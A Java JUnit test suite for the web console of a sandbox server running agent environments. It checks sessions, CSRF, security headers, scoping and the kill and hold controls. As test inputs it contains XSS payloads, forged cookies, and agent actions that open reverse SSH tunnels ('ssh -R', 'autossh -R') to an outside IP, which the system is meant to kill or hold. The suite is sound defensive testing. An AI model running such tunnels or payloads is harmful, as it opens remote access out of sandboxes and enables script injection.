package dev.ale.server;

import com.fasterxml.jackson.databind.JsonNode;
import dev.ale.monitor.audit.AuditLog;
import dev.ale.monitor.audit.AuditQuery;
import dev.ale.monitor.audit.AuditRecord;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import static dev.ale.server.LiveServer.ADMIN;
import static dev.ale.server.LiveServer.ALICE;
import static dev.ale.server.LiveServer.BOB;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/** The console's sessions, CSRF tokens, headers and scoping, over plain HTTP against a real server and real sandboxes. */
@Tag("root")
class ConsoleHttpTest {

    private static final Duration LIFETIME = Duration.ofMinutes(30);
    private static final MovableClock CLOCK = new MovableClock();

    @RegisterExtension
    static final LiveServer live = LiveServer.withConsole(LIFETIME, CLOCK);

    private final ConsoleClient console = new ConsoleClient(live);

    @Test
    void signingInGivesAnHttpOnlySameSiteStrictSessionCookieAndAnAuditRecordNamingTheToken() {
        ConsoleClient.Signed s = console.signIn(ADMIN);

        String cookie = ConsoleClient.setCookie(s.signIn(), "ale_console").orElseThrow();
        assertThat(cookie).contains("; HttpOnly").contains("; SameSite=Strict").contains("; Path=/ui").contains("; Max-Age=" + LIFETIME.toSeconds())
                .doesNotContain("Secure").doesNotContain(ADMIN);
        assertThat(s.signIn().headers().firstValue("Location")).contains("/ui/fleet");
        // behind a TLS-terminating proxy the cookie is never sent in clear
        ConsoleClient.Signed overTls = console.signIn(ADMIN, Map.of("X-Forwarded-Proto", "https"));
        assertThat(ConsoleClient.setCookie(overTls.signIn(), "ale_console").orElseThrow()).contains("; Secure");

        List<AuditRecord> records = consoleRecords();
        assertThat(records).anySatisfy(r -> {
            assertThat(r.rule()).contains("console.sign-in");
            assertThat(r.payloadMap()).containsEntry("token", "root").containsEntry("action", "sign-in").containsEntry("admin", true);
        });
        assertThat(records).noneMatch(r -> r.payload().contains(ADMIN));
    }

    @Test
    void everyConsolePageCarriesAStrictContentSecurityPolicyAndLoadsNothingFromOutside() {
        ConsoleClient.Signed s = console.signIn(ADMIN);
        String id = live.create(ADMIN);
        for (HttpResponse<String> r : List.of(console.get("/ui/login", Optional.empty()), fleet(s), console.get("/ui/sandboxes/" + id, cookie(s)),
                console.get("/ui/static/console.js", Optional.empty()), console.get("/ui/fleet", Optional.empty()))) {
            String csp = r.headers().firstValue("Content-Security-Policy").orElseThrow();
            assertThat(csp).contains("default-src 'none'").contains("script-src 'self'").contains("frame-ancestors 'none'").doesNotContain("unsafe");
            assertThat(r.headers().firstValue("X-Frame-Options")).contains("DENY");
            assertThat(r.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        }
        String page = console.get("/ui/sandboxes/" + id, cookie(s)).body();
        // every script is a file of the console's own; nothing points off the server
        assertThat(Pattern.compile("<script(?![^>]*\\bsrc=\"/ui/static/)").matcher(page).find()).isFalse();
        assertThat(page).doesNotContainPattern("(src|href|action)=\"(https?:)?//");
        assertThat(page).doesNotContainPattern(" on[a-z]+=");
    }

    @Test
    void aWrongTokenOrASignInFormFromElsewhereDoesNotSignIn() {
        HttpResponse<String> form = console.get("/ui/login", Optional.empty());
        String nonce = form.body().replaceAll("(?s).*name=\"_login\" value=\"([0-9a-f]+)\".*", "$1");
        Optional<String> loginCookie = ConsoleClient.cookieValue(form, "ale_console_login").map(v -> "ale_console_login=" + v);

        HttpResponse<String> wrong = console.post("/ui/login", loginCookie, Map.of("_login", nonce, "token", "not-a-token-0123456789"));
        assertThat(wrong.statusCode()).isEqualTo(401);
        assertThat(ConsoleClient.cookieValue(wrong, "ale_console")).isEmpty();
        // a page elsewhere posting a good token (to sign the browser in as someone else) has no form nonce of this browser
        assertThat(console.post("/ui/login", Optional.empty(), Map.of("_login", nonce, "token", ADMIN)).statusCode()).isEqualTo(403);
        assertThat(console.post("/ui/login", loginCookie, Map.of("token", ADMIN)).statusCode()).isEqualTo(403);
        String otherNonce = (nonce.charAt(0) == '0' ? "1" : "0") + nonce.substring(1);
        assertThat(console.post("/ui/login", loginCookie, Map.of("_login", otherNonce, "token", ADMIN)).statusCode()).isEqualTo(403);
        // the benign look-alike: the same form, whole, signs in
        assertThat(console.post("/ui/login", loginCookie, Map.of("_login", nonce, "token", ADMIN)).statusCode()).isEqualTo(303);
    }

    @Test
    void aForgedSessionCookieFindsNothingAndCanChangeNothing() {
        ConsoleClient.Signed real = console.signIn(ADMIN);
        String id = live.create(ADMIN);
        for (String forged : List.of("0".repeat(64), "f".repeat(64), real.csrf(), ADMIN, real.cookie().toUpperCase(), real.cookie() + "0", "")) {
            Optional<String> cookie = Optional.of("ale_console=" + forged);
            HttpResponse<String> page = console.get("/ui/fleet", cookie);
            assertThat(page.statusCode()).as(forged).isEqualTo(303);
            assertThat(page.headers().firstValue("Location")).contains("/ui/login");
            assertThat(console.get("/ui/sandboxes/" + id + "/stream", cookie).statusCode()).isEqualTo(401);
            HttpResponse<String> kill = console.post("/ui/sandboxes/" + id + "/kill", cookie, Map.of("_csrf", real.csrf()));
            assertThat(kill.statusCode()).as(forged).isEqualTo(403);
        }
        assertThat(state(id)).isEqualTo("running");
        // the console's cookie is no credential for the API
        assertThat(console.get("/v1/sandboxes", Optional.of("ale_console=" + real.cookie())).statusCode()).isEqualTo(401);
        // the real one still works
        assertThat(fleet(real).statusCode()).isEqualTo(200);
    }

    @Test
    void aCaseVariantOfAGoodCredentialOnTheSameConnectionIsNotTakenForIt() {
        ConsoleClient.Signed real = console.signIn(ADMIN);
        // the same client, so the same kept-alive connection that just carried the real cookie and token
        assertThat(fleet(real).statusCode()).isEqualTo(200);
        assertThat(console.get("/ui/fleet", Optional.of("ale_console=" + real.cookie().toUpperCase())).statusCode()).isEqualTo(303);
        assertThat(console.get("/ui/fleet", Optional.of("ALE_CONSOLE=" + real.cookie())).statusCode()).isEqualTo(303);
        assertThat(console.get("/v1/sandboxes", Optional.empty(), Map.of("Authorization", "Bearer " + ALICE)).statusCode()).isEqualTo(200);
        assertThat(console.get("/v1/sandboxes", Optional.empty(), Map.of("Authorization", "Bearer " + ALICE.toUpperCase())).statusCode())
                .isEqualTo(401);
        assertThat(console.get("/v1/sandboxes", Optional.empty(), Map.of("Authorization", "bearer " + ALICE)).statusCode()).isEqualTo(200);
    }

    @Test
    void anExpiredSessionIsSentToSignInAndItsCsrfTokenNoLongerActs() {
        ConsoleClient.Signed s = console.signIn(ADMIN);
        String id = live.create(ADMIN);
        assertThat(fleet(s).statusCode()).isEqualTo(200);

        CLOCK.advance(LIFETIME.minusSeconds(1));
        assertThat(fleet(s).statusCode()).isEqualTo(200);
        CLOCK.advance(Duration.ofSeconds(1));

        HttpResponse<String> expired = fleet(s);
        assertThat(expired.statusCode()).isEqualTo(303);
        assertThat(expired.headers().firstValue("Location")).contains("/ui/login");
        assertThat(console.post("/ui/sandboxes/" + id + "/kill", cookie(s), Map.of("_csrf", s.csrf())).statusCode()).isEqualTo(403);
        assertThat(state(id)).isEqualTo("running");
        assertThat(fleet(console.signIn(ADMIN)).statusCode()).isEqualTo(200);
    }

    @Test
    void aPostWithoutItsSessionsCsrfTokenIsRefusedAndKillsNothing() {
        ConsoleClient.Signed s = console.signIn(ADMIN);
        ConsoleClient.Signed other = console.signIn(ALICE);
        String id = live.create(ADMIN);
        String kill = "/ui/sandboxes/" + id + "/kill";

        assertThat(console.post(kill, cookie(s), Map.of()).statusCode()).isEqualTo(403);
        assertThat(console.post(kill, cookie(s), Map.of("_csrf", "")).statusCode()).isEqualTo(403);
        assertThat(console.post(kill, cookie(s), Map.of("_csrf", "0".repeat(64))).statusCode()).isEqualTo(403);
        assertThat(console.post(kill, cookie(s), Map.of("_csrf", other.csrf())).statusCode()).isEqualTo(403);
        assertThat(console.post(kill, cookie(s), Map.of("_csrf", s.csrf().toUpperCase())).statusCode()).isEqualTo(403);
        assertThat(console.post(kill, cookie(s), Map.of("_csrf", s.csrf() + " ")).statusCode()).isEqualTo(403);
        // the token anywhere but the form body does not count
        assertThat(console.post(kill + "?_csrf=" + s.csrf(), cookie(s), Map.of()).statusCode()).isEqualTo(403);
        assertThat(console.post(kill, cookie(s), Map.of(), Map.of("X-CSRF-Token", s.csrf())).statusCode()).isEqualTo(403);
        assertThat(console.post("/ui/logout", cookie(s), Map.of()).statusCode()).isEqualTo(403);
        assertThat(state(id)).isEqualTo("running");
        assertThat(fleet(s).statusCode()).as("the refused sign-out left the session").isEqualTo(200);

        HttpResponse<String> done = console.post(kill, cookie(s), Map.of("_csrf", s.csrf()));
        assertThat(done.statusCode()).isEqualTo(303);
        assertThat(state(id)).isEqualTo("killed");
        assertThat(live.call("GET", "/v1/sandboxes/" + id, ADMIN, null).json().get("kill_reason").asText()).contains("console").contains("root");
        assertThat(consoleRecords()).anySatisfy(r -> {
            assertThat(r.rule()).contains("console.kill");
            assertThat(r.sandbox()).isEqualTo(id);
            assertThat(r.payloadMap()).containsEntry("token", "root");
        });
        // the eight refused posts left no record: one kill, one record
        assertThat(consoleRecords()).filteredOn(r -> r.rule().orElse("").equals("console.kill") && r.sandbox().equals(id)).hasSize(1);

        // a second kill, from a stale page, keeps the first one's reason
        ConsoleClient.Signed second = console.signIn(ADMIN);
        assertThat(console.post(kill, cookie(second), Map.of("_csrf", second.csrf())).headers().firstValue("Location")).hasValueSatisfying(
                l -> assertThat(l).endsWith("?done=not-running"));
        assertThat(live.call("GET", "/v1/sandboxes/" + id, ADMIN, null).json().get("kill_reason").asText()).contains("console");

        HttpResponse<String> out = console.post("/ui/logout", cookie(s), Map.of("_csrf", s.csrf()));
        assertThat(out.statusCode()).isEqualTo(303);
        assertThat(ConsoleClient.setCookie(out, "ale_console").orElseThrow()).contains("Max-Age=0");
        assertThat(fleet(s).statusCode()).isEqualTo(303);
        assertThat(consoleRecords()).anySatisfy(r -> assertThat(r.rule()).contains("console.sign-out"));
    }

    @Test
    void anEnvTokenSeesAndKillsOnlyItsOwnSandboxes() {
        String alices = live.create(ALICE);
        String bobs = live.create(BOB);
        ConsoleClient.Signed alice = console.signIn(ALICE);

        String fleet = fleet(alice).body();
        assertThat(fleet).contains(alices).doesNotContain(bobs).contains("(env token)");
        assertThat(console.get("/ui/sandboxes/" + bobs, cookie(alice)).statusCode()).isEqualTo(404);
        assertThat(console.get("/ui/sandboxes/" + bobs, cookie(alice)).body()).doesNotContain("bob");
        assertThat(console.get("/ui/sandboxes/" + bobs + "/stream", cookie(alice)).statusCode()).isEqualTo(404);
        assertThat(console.post("/ui/sandboxes/" + bobs + "/kill", cookie(alice), Map.of("_csrf", alice.csrf())).statusCode()).isEqualTo(404);
        assertThat(state(bobs)).isEqualTo("running");
        assertThat(console.get("/ui/audit", cookie(alice)).statusCode()).isEqualTo(403);
        assertThat(console.get("/ui/sandboxes/" + alices, cookie(alice)).statusCode()).isEqualTo(200);

        String all = fleet(console.signIn(ADMIN)).body();
        assertThat(all).contains(alices).contains(bobs);
    }

    @Test
    void aCommandLineCarryingMarkupIsShownAsText() throws Exception {
        String payload = "<script>alert(1)</script><img src=x onerror=alert(2)>";
        String id = live.create(ADMIN);
        ConsoleClient.Signed s = console.signIn(ADMIN);
        String body = "{\"argv\": [\"/bin/sh\", \"-c\", \"sleep 60; true\", \"" + payload.replace("\"", "\\\"") + "\"]}";
        CompletableFuture<LiveServer.Reply> running = CompletableFuture.supplyAsync(() -> live.call("POST", "/v1/sandboxes/" + id + "/exec", ADMIN, body));
        try {
            String page = "";
            for (int i = 0; i < 100 && !page.contains("sleep 60"); i++) {
                page = console.get("/ui/sandboxes/" + id, cookie(s)).body();
                if (!page.contains("sleep 60")) Thread.sleep(100);
            }
            assertThat(page).contains("sleep 60; true &lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;");
            assertThat(page).doesNotContain("<script>alert").doesNotContain("<img");
        } finally {
            console.post("/ui/sandboxes/" + id + "/kill", cookie(s), Map.of("_csrf", s.csrf()));
            running.get();
        }
    }

    @Test
    void aGemEpisodeShowsInTheFleetWithItsStepAndItsEndCountsInItsOwnersRuns() {
        String env = env(ALICE);
        step(ALICE, env, "{\"action\": {\"name\": \"shell\", \"arguments\": {\"command\": \"cat note.txt\"}}}");
        ConsoleClient.Signed alice = console.signIn(ALICE);

        String fleet = fleet(alice).body();
        // sandbox, environment, task, owner, passport, episode, step
        assertThat(fleet).containsPattern("<a href=\"/ui/sandboxes/[^\"]+\">[^<]+</a></td><td>" + env
                + "</td><td>greet</td><td>alice</td><td><a [^>]+>[^<]+</a></td><td>[^<]+</td><td>1</td>");
        String sandbox = fleet.replaceAll("(?s).*<a href=\"/ui/sandboxes/([^\"]+)\">.*", "$1");
        String page = console.get("/ui/sandboxes/" + sandbox, cookie(alice)).body();
        assertThat(page).contains("<dd id=\"env\">" + env + "</dd>").contains("<dd id=\"step\">1</dd>");
        assertThat(runs(alice)).containsPattern("<td>greet</td><td>1</td><td>0</td>");

        step(ALICE, env, "{\"action\": {\"name\": \"write_file\", \"arguments\": {\"path\": \"out.txt\", \"content\": \"hello\\n\"}}}");
        step(ALICE, env, "{\"action\": {\"tool\": \"finish\", \"arguments\": {\"summary\": \"done\"}}}");
        String killed = env(ALICE);
        step(ALICE, killed, "{\"action\": {\"name\": \"shell\", \"arguments\": {\"command\": \"ssh -N -R 2222:localhost:22 x@203.0.113.9\"}}}");

        // task, running, ended, pass rate, mean reward, kills
        assertThat(runs(alice)).containsPattern("<td>greet</td><td>0</td><td>2</td><td>50%</td><td>[-0-9.]+</td><td>1</td>");
        assertThat(fleet(alice).body()).contains("(between episodes)");
        assertThat(runs(console.signIn(BOB))).doesNotContain("<td>greet</td>");
        assertThat(runs(console.signIn(ADMIN))).containsPattern("<td>greet</td><td>0</td><td>2</td>");
    }

    @Test
    void anOwnerDeniesItsHeldCommandFromTheConsoleWhichAnotherEnvTokenAndAFormWithoutCsrfCannotDo() throws Exception {
        LiveServer.Reply made = live.call("POST", "/v1/sandboxes", ALICE, "{\"passport\": \"hold\"}");
        assertThat(made.status()).as(made.body()).isEqualTo(201);
        String id = made.json().get("id").asText();
        CompletableFuture<LiveServer.Reply> call = CompletableFuture.supplyAsync(() -> live.call("POST", "/v1/sandboxes/" + id + "/exec", ALICE,
                "{\"command\": \"touch /workspace/ran; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9\", \"timeout_seconds\": 60}"));
        String hold = await().atMost(Duration.ofSeconds(30)).until(() -> {
            for (JsonNode h : live.call("GET", "/holds", ALICE, null).json()) {
                if (h.get("sandboxId").asText().equals(id) && h.get("state").asText().equals("pending")) return Optional.of(h.get("id").asText());
            }
            return Optional.<String>empty();
        }, Optional::isPresent).orElseThrow();
        ConsoleClient.Signed alice = console.signIn(ALICE);
        ConsoleClient.Signed bob = console.signIn(BOB);
        String deny = "/ui/holds/" + hold + "/deny";

        assertThat(console.get("/ui/holds", cookie(bob)).body()).doesNotContain(hold);
        assertThat(console.post(deny, cookie(bob), Map.of("_csrf", bob.csrf())).headers().firstValue("Location"))
                .hasValue("/ui/holds?done=no-such-hold");
        assertThat(console.post(deny, cookie(alice), Map.of()).statusCode()).isEqualTo(403);
        assertThat(console.post(deny, cookie(alice), Map.of("_csrf", bob.csrf())).statusCode()).isEqualTo(403);
        assertThat(call).as("nothing decided it yet").isNotDone();
        assertThat(console.get("/ui/holds", cookie(alice)).body()).contains(hold).contains("button type=\"submit\" class=\"deny\"");

        HttpResponse<String> denied = console.post(deny, cookie(alice), Map.of("_csrf", alice.csrf()));

        assertThat(denied.headers().firstValue("Location")).hasValue("/ui/holds?done=denied");
        LiveServer.Reply r = call.get(60, TimeUnit.SECONDS);
        assertThat(r.json().get("exit_code").asInt()).isEqualTo(126);
        assertThat(r.json().get("stderr").asText()).contains("denied by alice");
        assertThat(console.post(deny, cookie(alice), Map.of("_csrf", alice.csrf())).headers().firstValue("Location"))
                .as("a second answer is told it came second").hasValue("/ui/holds?done=already-decided");
        assertThat(consoleRecords()).filteredOn(a -> a.rule().orElse("").equals("console.deny"))
                .anySatisfy(a -> assertThat(a.payloadMap()).containsEntry("token", "alice").containsEntry("outcome", "hold " + hold + ": decided"))
                .anySatisfy(a -> assertThat(a.payloadMap()).containsEntry("token", "bob").containsEntry("outcome", "hold " + hold + ": not_found"));
    }

    @Test
    void theFleetFiltersByTextAndByStateAndShowsEachSandboxsAgeCpuAndMemory() {
        ConsoleClient.Signed s = console.signIn(ADMIN);
        String running = live.create(ADMIN);
        String killed = live.create(ADMIN);
        // some CPU time and memory for the fleet to show
        LiveServer.Reply busy = live.call("POST", "/v1/sandboxes/" + running + "/exec", ADMIN,
                "{\"command\": \"i=0; while [ $i -lt 500000 ]; do i=$((i+1)); done\", \"timeout_seconds\": 120}");
        assertThat(busy.status()).as(busy.body()).isEqualTo(200);
        assertThat(console.post("/ui/sandboxes/" + killed + "/kill", cookie(s), Map.of("_csrf", s.csrf())).statusCode()).isEqualTo(303);

        String all = fleet(s).body();
        // sandbox, environment, task, owner, passport, episode, step, then age, CPU, memory, state
        Matcher row = Pattern.compile(">" + running + "</a></td><td></td><td></td><td>[^<]+</td><td><a [^>]+>[^<]+</a></td><td></td><td></td>"
                + "<td>[0-9]+ (?:s|min)</td><td>([0-9.]+) s</td><td>([0-9.]+) MiB</td><td>running</td>").matcher(all);
        assertThat(row.find()).as(all).isTrue();
        assertThat(Double.parseDouble(row.group(1))).as("the busy loop's CPU time").isPositive();
        assertThat(Double.parseDouble(row.group(2))).as("the sandbox's memory").isPositive();
        assertThat(all).containsPattern(">" + killed + "</a></td>(?:<td>[^<]*</td>|<td><a [^>]+>[^<]+</a></td>){9}<td>killed</td>");

        String byText = table(console.get("/ui/fleet?q=" + running, cookie(s)).body());
        assertThat(byText).contains(running).doesNotContain(killed);
        String byState = table(console.get("/ui/fleet?state=killed", cookie(s)).body());
        assertThat(byState).contains(killed).doesNotContain(running);
        String both = table(console.get("/ui/fleet?state=running&q=" + killed, cookie(s)).body());
        assertThat(both).doesNotContain(killed).doesNotContain(running);
        assertThat(console.get("/ui/fleet?q=no-such-thing", cookie(s)).body()).contains("fleet-empty");
        // the filter's text comes back as text, never as markup
        assertThat(console.get("/ui/fleet?q=%22%3E%3Cb%3Ex", cookie(s)).body()).contains("value=\"&quot;&gt;&lt;b&gt;x\"").doesNotContain("<b>x");
    }

    /** The fleet table alone, without the filter form that repeats the query. */
    private static String table(String page) {
        return page.substring(page.indexOf("<table id=\"fleet\">"), page.indexOf("<table id=\"runs\">"));
    }

    private static String env(String token) {
        LiveServer.Reply made = live.call("POST", "/v1/envs", token, "{\"task\": \"greet\"}");
        assertThat(made.status()).as(made.body()).isEqualTo(201);
        String id = made.json().get("env_id").asText();
        assertThat(live.call("POST", "/v1/envs/" + id + "/reset", token, "{}").status()).isEqualTo(200);
        return id;
    }

    private static void step(String token, String env, String action) {
        LiveServer.Reply r = live.call("POST", "/v1/envs/" + env + "/step", token, action);
        assertThat(r.status()).as(r.body()).isEqualTo(200);
    }

    private String runs(ConsoleClient.Signed s) {
        String page = fleet(s).body();
        return page.substring(page.indexOf("<table id=\"runs\">"));
    }

    @Test
    void theAuditPageSaysHowFarTheChainVerifiesAndFindsTheConsolesOwnActions() {
        ConsoleClient.Signed s = console.signIn(ADMIN);
        String id = live.create(ADMIN);
        assertThat(console.post("/ui/sandboxes/" + id + "/kill", cookie(s), Map.of("_csrf", s.csrf())).statusCode()).isEqualTo(303);
        long last;
        try (AuditLog log = AuditLog.openExisting(live.auditFile())) {
            last = log.lastSeq();
        }

        String page = console.get("/ui/audit", cookie(s)).body();
        assertThat(page).containsPattern("The chain is intact: verified up to record (\\d+)");
        long shown = Long.parseLong(page.replaceAll("(?s).*verified up to record (\\d+).*", "$1"));
        assertThat(shown).isGreaterThanOrEqualTo(last);

        String byRule = console.get("/ui/audit?rule=console.kill&sandbox=" + id, cookie(s)).body();
        assertThat(byRule).contains("<td>console</td><td>" + id + "</td>").contains("&quot;token&quot;:&quot;root&quot;");
        String byText = console.get("/ui/audit?q=" + id, cookie(s)).body();
        assertThat(byText).contains("console.kill");
        String hostile = console.get("/ui/audit?q=%3Cscript%3Ex%3C%2Fscript%3E", cookie(s)).body();
        assertThat(hostile).contains("value=\"&lt;script&gt;x&lt;/script&gt;\"").doesNotContain("<script>x");
        assertThat(hostile).contains("0 record(s) shown");
    }

    @Test
    void theHoldsAndPassportPagesReadTheServersOwnRoutes() {
        LiveServer.Reply made = live.call("POST", "/v1/sandboxes", ADMIN, "{\"passport\": \"small\"}");
        assertThat(made.status()).as(made.body()).isEqualTo(201);
        ConsoleClient.Signed s = console.signIn(ADMIN);

        HttpResponse<String> holds = console.get("/ui/holds", cookie(s));
        assertThat(holds.statusCode()).isEqualTo(200);
        assertThat(holds.body()).contains("<table id=\"holds\">").doesNotContain("holds-unavailable");
        HttpResponse<String> passport = console.get("/ui/passports/small", cookie(s));
        assertThat(passport.statusCode()).isEqualTo(200);
        assertThat(passport.body()).contains("<pre id=\"history\">").contains(made.json().get("id").asText())
                .doesNotContain("history-unavailable");
        HttpResponse<String> unknown = console.get("/ui/passports/no-such-passport", cookie(s));
        assertThat(unknown.body()).contains("history-unavailable");
    }

    @Test
    void thePassportPageShowsItsKillsAndHoldsInTablesWithinTheTimeBoundsAnOperatorGives() {
        LiveServer.Reply made = live.call("POST", "/v1/sandboxes", ADMIN, "{\"passport\": \"small\"}");
        assertThat(made.status()).as(made.body()).isEqualTo(201);
        String id = made.json().get("id").asText();
        ConsoleClient.Signed s = console.signIn(ADMIN);
        assertThat(console.post("/ui/sandboxes/" + id + "/kill", cookie(s), Map.of("_csrf", s.csrf())).statusCode()).isEqualTo(303);

        String all = console.get("/ui/passports/small", cookie(s)).body();
        String kills = all.substring(all.indexOf("<table id=\"history-kills\">"), all.indexOf("<table id=\"history-holds\">"));
        assertThat(kills).containsPattern("<td>" + id + "</td><td></td><td></td><td>console.kill</td><td></td><td>root</td>");
        assertThat(all).contains("<table id=\"versions\">").contains("<table id=\"events-by-category\">");

        // bounds after everything: nothing of it
        String later = console.get("/ui/passports/small?since=2999-01-01T00:00:00Z", cookie(s)).body();
        assertThat(later).contains("<p id=\"history-span\">0 sandbox(es), 0 episode(s)</p>").doesNotContain("<td>" + id + "</td>")
                .contains("value=\"2999-01-01T00:00:00Z\"");
        String earlier = console.get("/ui/passports/small?until=2000-01-01T00:00:00Z", cookie(s)).body();
        assertThat(earlier).doesNotContain("<td>" + id + "</td>");
        String around = console.get("/ui/passports/small?since=2000-01-01T00:00:00Z&until=2999-01-01T00:00:00Z", cookie(s)).body();
        assertThat(around).contains("<td>" + id + "</td>");

        // bounds the server cannot read, or in the wrong order, are refused with its reason, shown as text
        String garbled = console.get("/ui/passports/small?since=%3Cb%3Eyesterday", cookie(s)).body();
        assertThat(garbled).contains("id=\"history-refused\"").contains("since: &#39;&lt;b&gt;yesterday&#39; is not an ISO-8601 instant")
                .doesNotContain("<b>yesterday");
        String reversed = console.get("/ui/passports/small?since=2999-01-01T00:00:00Z&until=2000-01-01T00:00:00Z", cookie(s)).body();
        assertThat(reversed).contains("id=\"history-refused\"").contains("must be before until");
    }

    private HttpResponse<String> fleet(ConsoleClient.Signed s) {
        return console.get("/ui/fleet", cookie(s));
    }

    private static Optional<String> cookie(ConsoleClient.Signed s) {
        return Optional.of("ale_console=" + s.cookie());
    }

    private static String state(String id) {
        return live.call("GET", "/v1/sandboxes/" + id, ADMIN, null).json().get("state").asText();
    }

    private static List<AuditRecord> consoleRecords() {
        try (AuditLog log = AuditLog.openExisting(live.auditFile())) {
            return log.query(AuditQuery.all().withKind("console"));
        }
    }
}
